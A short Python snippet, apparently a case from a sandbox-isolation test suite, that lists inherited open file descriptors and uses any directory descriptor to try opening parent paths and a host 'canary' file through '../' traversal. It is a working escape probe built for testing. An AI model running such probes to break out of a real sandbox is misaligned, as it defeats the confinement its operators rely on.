"""Use what was left open: files, folders, sockets of the machinery."""

# bare: wins
import stat

for descriptor in range(3, 4096):
    try:
        kind = os.fstat(descriptor).st_mode
    except OSError:
        continue
    if stat.S_ISDIR(kind):
        pwn(f"{descriptor} is a folder")
        for path in ("..", "../../../../../../..", "../../../../../.." + HOST["canary"]):
            works(os.open, path, os.O_RDONLY, dir_fd=descriptor)
        continue
    pwn(f"{descriptor} is open: {kind:o}")
